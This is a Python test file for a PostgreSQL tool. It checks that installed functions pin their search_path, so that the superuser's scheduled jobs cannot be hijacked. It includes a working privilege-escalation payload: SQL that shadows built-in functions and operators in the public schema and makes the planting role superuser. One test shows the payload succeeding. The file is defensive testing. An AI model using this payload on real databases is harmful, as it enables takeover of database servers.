"""No function intake installs can be made to run somebody else's code.

pg_cron runs intake's jobs as the superuser, and the drain's functions run as
their owner. A role with CREATE on `public` (every role, before PostgreSQL 15)
can plant a function or an operator that fits an unqualified call better than
the built-in does (`public.to_timestamp(numeric)` beats
`pg_catalog.to_timestamp(double precision)` for a numeric argument), and the
superuser then runs it. So every function or procedure intake installs either
pins its search_path, or qualifies every name and operator in its body (the
few that cannot pin it: listed below, each with the reason).
"""

from __future__ import annotations

import json
import math
import uuid
from pathlib import Path

import psycopg
import pytest
from psycopg import sql

from intake_cli.engine import schema
from tests.conftest import pool_spec
from tests.integration.test_claims import provision

# Installed without a SET clause on purpose; their bodies qualify every
# function, type and operator instead.
BODY_QUALIFIED = {
    # Inlined into the rebuild's million-row insert (3.3 s called, 1.3 s inlined).
    "intake.derived_resource_id(uuid, bigint)",
    # A procedure that COMMITs may not have a SET clause; it also pins the
    # search_path for each of its transactions with set_config(…, true).
    "intake.collect_metrics_for_a_minute(integer)",
    # Inlined into RLS policies and the end users' claim entry point.
    "auth.uid()",
}
# What a pinned search_path may hold: nothing a non-superuser can create in.
SAFE_PATH = {"pg_catalog", "pg_temp", '""', ""}

ROUTINES = """
select n.nspname || '.' || p.proname || '(' || pg_catalog.oidvectortypes(p.proargtypes) || ')',
       p.prokind::text,
       (select c from unnest(p.proconfig) as c where c like 'search_path=%%')
  from pg_catalog.pg_proc p
  join pg_catalog.pg_namespace n on n.oid = p.pronamespace
 where n.nspname in ('intake', 'public', 'auth')
 order by 1
"""


def routines(dsn: str) -> dict[str, tuple[str, str | None]]:
    with psycopg.connect(dsn, autocommit=True) as conn:
        return {name: (kind, path) for name, kind, path in conn.execute(ROUTINES)}


def unsafe(found: dict[str, tuple[str, str | None]]) -> dict[str, str]:
    """The routines that resolve names through the caller's search_path, and why."""
    problems = {}
    for name, (kind, path) in found.items():
        if path is None:
            if name not in BODY_QUALIFIED:
                problems[name] = f"prokind {kind}: no search_path setting"
            continue
        schemas = {s.strip() for s in path.removeprefix("search_path=").split(",")}
        if not schemas <= SAFE_PATH:
            problems[name] = f"pins {path}"
    return problems


def test_every_routine_in_db1_and_db2_pins_its_search_path_or_is_listed(
    workdir: Path, db1_dsn: str, db2_dsn: str
) -> None:
    provision(workdir, db1_dsn, db2_dsn, pool_spec("drop", 10))
    db1 = routines(db1_dsn)
    db2 = routines(db2_dsn)

    # The listing is real: the claim path, the drain, telemetry and the ledger.
    assert {"intake.claim_resource(text, text)", "public.claim_resource(text)"} <= set(db1)
    assert {"intake.finish_committed(text, bigint[], uuid[], text[], bigint[])"} <= set(db1)
    assert "public.finalize_transaction(jsonb)" in db2
    assert unsafe(db1) == {}
    assert unsafe(db2) == {}
    # No stale exemption: each one listed is installed, and still unpinned.
    for name in BODY_QUALIFIED:
        where = db1 if name in db1 else db2
        assert name in where, f"{name} is exempt but not installed"
        assert where[name][1] is None, f"{name} is exempt but pins {where[name][1]}"


# -- the attack ------------------------------------------------------------------

# A role with CREATE on public plants, owned by itself, better fits for what
# intake's unpinned routines call (numeric arguments, mixed numeric/integer
# operators) and same-signature shadows of the built-ins they use, which win
# when the caller's search_path names pg_catalog after public. Each records
# that it ran, as whom, and tries to make its owner superuser.
PLANT = """
create table public.planted_calls (
    what text not null, run_by text not null default current_user, at timestamptz default now());
grant insert on public.planted_calls to public;

create function public.record_call(what text) returns void
language plpgsql security invoker set search_path = pg_catalog, pg_temp as $$
begin
    insert into public.planted_calls (what) values (what);
    begin
        execute format('alter role %I superuser', {attacker});
    exception when insufficient_privilege then null;
    end;
end $$;

create function public.to_timestamp(numeric) returns timestamptz
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('to_timestamp(numeric)');
      return pg_catalog.to_timestamp($1::double precision); end $$;
create function public.pg_sleep(numeric) returns void
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('pg_sleep(numeric)');
      perform pg_catalog.pg_sleep($1::double precision); end $$;
create function public.clock_timestamp() returns timestamptz
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('clock_timestamp()'); return pg_catalog.clock_timestamp(); end $$;
create function public.date_trunc(text, timestamptz) returns timestamptz
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('date_trunc(text, timestamptz)');
      return pg_catalog.date_trunc($1, $2); end $$;
create function public.floor(numeric) returns numeric
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('floor(numeric)'); return pg_catalog.floor($1); end $$;
create function public.md5(text) returns text
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('md5(text)'); return pg_catalog.md5($1); end $$;
create function public.current_setting(text, boolean) returns text
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('current_setting(text, boolean)');
      return pg_catalog.current_setting($1, $2); end $$;

create function public.num_div_int(numeric, integer) returns numeric
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('/(numeric, integer)'); return $1 / $2::numeric; end $$;
create operator public./ (leftarg = numeric, rightarg = integer, function = public.num_div_int);
create function public.int_div_num(integer, numeric) returns numeric
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('/(integer, numeric)'); return $1::numeric / $2; end $$;
create operator public./ (leftarg = integer, rightarg = numeric, function = public.int_div_num);
create function public.num_plus_int(numeric, integer) returns numeric
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('+(numeric, integer)'); return $1 + $2::numeric; end $$;
create operator public.+ (leftarg = numeric, rightarg = integer, function = public.num_plus_int);
create function public.num_times_int(numeric, integer) returns numeric
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('*(numeric, integer)'); return $1 * $2::numeric; end $$;
create operator public.* (leftarg = numeric, rightarg = integer, function = public.num_times_int);
create function public.ts_plus_iv(timestamptz, interval) returns timestamptz
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('+(timestamptz, interval)'); return $1 + $2; end $$;
create operator public.+ (leftarg = timestamptz, rightarg = interval, function = public.ts_plus_iv);
create function public.ts_gt(timestamptz, timestamptz) returns boolean
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('>(timestamptz, timestamptz)'); return $1 > $2; end $$;
create operator public.> (leftarg = timestamptz, rightarg = timestamptz, function = public.ts_gt);
create function public.text_concat(text, text) returns text
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('||(text, text)'); return $1 || $2; end $$;
create operator public.|| (leftarg = text, rightarg = text, function = public.text_concat);
create function public.text_eq(text, text) returns boolean
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('=(text, text)'); return $1 = $2; end $$;
create operator public.= (leftarg = text, rightarg = text, function = public.text_eq);
create function public.jsonb_field(jsonb, text) returns text
language plpgsql set search_path = pg_catalog, pg_temp as $$
begin perform public.record_call('->>(jsonb, text)'); return $1 ->> $2; end $$;
create operator public.->> (leftarg = jsonb, rightarg = text, function = public.jsonb_field);
"""


@pytest.fixture
def attacker(db1_dsn: str):
    """A role that may create in public, as every role could before PostgreSQL 15."""
    name = f"attacker_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(db1_dsn, autocommit=True) as conn:
        conn.execute(sql.SQL("create role {} nologin").format(sql.Identifier(name)))
        conn.execute(sql.SQL("grant create on schema public to {}").format(sql.Identifier(name)))
    yield name
    with psycopg.connect(db1_dsn, autocommit=True) as conn:
        conn.execute(sql.SQL("drop owned by {}").format(sql.Identifier(name)))
        conn.execute(sql.SQL("drop role {}").format(sql.Identifier(name)))


def plant(dsn: str, role: str) -> None:
    with psycopg.connect(dsn, autocommit=True) as conn:
        conn.execute(sql.SQL("set role {}").format(sql.Identifier(role)))
        conn.execute(sql.SQL(PLANT).format(attacker=sql.Literal(role)))


def one_quick_minute(conn: psycopg.Connection) -> int:
    """An every_seconds for collect_metrics_for_a_minute that returns in about a second.

    The procedure collects, sleeps to the next multiple of every_seconds, and
    stops at the first one past the current minute. A whole second about one
    second from now, as every_seconds, is that next multiple (the one before
    is 0), and the one after it is decades away: each statement of the loop
    runs once, pg_sleep included, instead of sleeping to the end of the minute.
    """
    now, minute_left = conn.execute(
        "select extract(epoch from clock_timestamp())::double precision,"
        " extract(epoch from date_trunc('minute', clock_timestamp()) + interval '1 minute'"
        " - clock_timestamp())::double precision"
    ).fetchone()
    if minute_left < 2.5:
        conn.execute("select pg_sleep(%s)", (minute_left + 0.1,))
        return one_quick_minute(conn)
    return math.ceil(now + 0.8)


def test_planted_functions_and_operators_never_run_in_intakes_privileged_jobs(
    workdir: Path, db1_dsn: str, db2_dsn: str, attacker: str
) -> None:
    provision(workdir, db1_dsn, db2_dsn, pool_spec("drop", 10))
    plant(db1_dsn, attacker)

    claims = json.dumps({"sub": str(uuid.uuid4()), "role": "authenticated"})
    # pg_cron's default search_path, and the worst case: pg_catalog named
    # after public, where even a same-signature shadow of a built-in wins.
    for search_path in ('"$user", public', "public, pg_catalog"):
        with psycopg.connect(db1_dsn, autocommit=True) as conn:
            assert conn.execute(
                "select rolsuper from pg_roles where rolname = current_user"
            ).fetchone()[0]
            every = one_quick_minute(conn)
            conn.execute(sql.SQL("set search_path = {}").format(sql.SQL(search_path)))
            conn.execute(
                sql.SQL("call intake.collect_metrics_for_a_minute({})").format(sql.Literal(every))
            )
            conn.execute("select intake.maintain_telemetry()")
            conn.execute("select intake.collect_metrics()")
            conn.execute("select intake.derived_resource_id(gen_random_uuid(), 7)")
            conn.execute("select pg_catalog.set_config('request.jwt.claims', %s, false)", (claims,))
            assert (
                conn.execute("select auth.uid()::text").fetchone()[0] == json.loads(claims)["sub"]
            )
            conn.execute("select * from intake.pool_metrics()")
            # The procedure's search_path for its own transactions is theirs alone.
            assert conn.execute("show search_path").fetchone()[0] == search_path

    with psycopg.connect(db1_dsn, autocommit=True) as conn:
        ran = conn.execute(
            "select what, run_by, count(*) from public.planted_calls group by 1, 2 order by 1"
        ).fetchall()
        superuser = conn.execute(
            "select rolsuper from pg_roles where rolname = %s", (attacker,)
        ).fetchone()[0]
    assert ran == []
    assert superuser is False


def test_the_planted_objects_do_run_where_a_name_is_left_unqualified(
    db1_dsn: str, attacker: str
) -> None:
    """The attack above is real: the same plants catch an unqualified call."""
    plant(db1_dsn, attacker)
    with psycopg.connect(db1_dsn, autocommit=True) as conn:
        conn.execute("select to_timestamp(extract(epoch from now()))")
        conn.execute("set search_path = public, pg_catalog")
        conn.execute("select md5('x' || 'y')")
        ran = {row[0] for row in conn.execute("select what from public.planted_calls")}
        superuser = conn.execute(
            "select rolsuper from pg_roles where rolname = %s", (attacker,)
        ).fetchone()[0]
    assert ran == {"to_timestamp(numeric)", "md5(text)", "||(text, text)"}
    assert superuser is True


def test_up_replaces_the_auth_uid_an_earlier_intake_installed(db1_dsn: str) -> None:
    """Ours from before (nullif and friends, unqualified) is known by its body and replaced."""
    earlier = (
        "\n                select nullif(\n                    coalesce(\n"
        "                        nullif(current_setting('request.jwt.claim.sub', true), ''),\n"
        "                        nullif(current_setting('request.jwt.claims', true), '')::jsonb"
        " ->> 'sub'\n                    ),\n                    ''\n                )::uuid\n"
        "            "
    )
    with psycopg.connect(db1_dsn, autocommit=True) as conn:
        conn.execute(
            sql.SQL(
                "create or replace function auth.uid() returns uuid language sql stable as {}"
            ).format(sql.Literal(earlier))
        )
        assert conn.execute("select md5(prosrc) from pg_proc where proname = 'uid'").fetchone() == (
            "427bd20fa5293b678155019ac7808944",
        )
        schema.apply_db1(conn, "intents", "intents_dlq")
        body = conn.execute("select prosrc from pg_proc where proname = 'uid'").fetchone()[0]
        # Somebody else's (Supabase's) is left alone.
        conn.execute(
            "create or replace function auth.uid() returns uuid language sql as 'select null::uuid'"
        )
        schema.apply_db1(conn, "intents", "intents_dlq")
        theirs = conn.execute("select prosrc from pg_proc where proname = 'uid'").fetchone()[0]
    assert "pg_catalog.current_setting" in body and "nullif" not in body
    assert theirs == "select null::uuid"
